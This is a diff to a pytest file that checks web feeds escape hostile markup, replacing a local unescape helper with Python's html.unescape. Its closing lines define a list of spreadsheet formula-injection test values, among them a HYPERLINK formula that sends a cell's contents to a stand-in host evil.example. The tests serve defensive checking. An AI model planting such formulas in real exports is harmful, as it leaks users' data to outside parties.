@@ -8,6 +8,7 @@ import json
 import re
 import threading
 import xml.etree.ElementTree as ET
+from html import unescape
 
 import feedparser
 import pytest
@@ -343,7 +344,7 @@ class TestFeedsCarryNoLiveMarkup:
         for summary in summaries:
             assert embedding_tags_in(summary) == set() and dangerous_attributes(summary) == []
             assert "<" not in summary  # no element at all: the text reads as text
-            assert HOSTILE_TEXT in html_unescape(summary)  # and "<" and "&" read as typed
+            assert HOSTILE_TEXT in unescape(summary)  # and "<" and "&" read as typed
 
     def test_policy_status_notes_are_escaped(self, client, seed):
         policy = PolicyItem.objects.first()
@@ -351,7 +352,7 @@ class TestFeedsCarryNoLiveMarkup:
         policy.status = "revoked"
         policy.save()
         (summary,) = [s for s in atom_summaries(client, "/policies/status-changes/feed/") if "onerror" in s]
-        assert "<" not in summary and HOSTILE_TEXT in html_unescape(summary)
+        assert "<" not in summary and HOSTILE_TEXT in unescape(summary)
 
     def test_sanitized_comments_still_go_out_as_html(self, client, seed):
         position = Position.objects.first()
@@ -364,12 +365,6 @@ class TestFeedsCarryNoLiveMarkup:
         )
         (summary,) = atom_summaries(client, f"/positions/{position.slug}/comments/feed/")
         assert summary == "<p><em>yes</em></p>"
-
-
-def html_unescape(text):
-    import html
-
-    return html.unescape(text)
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
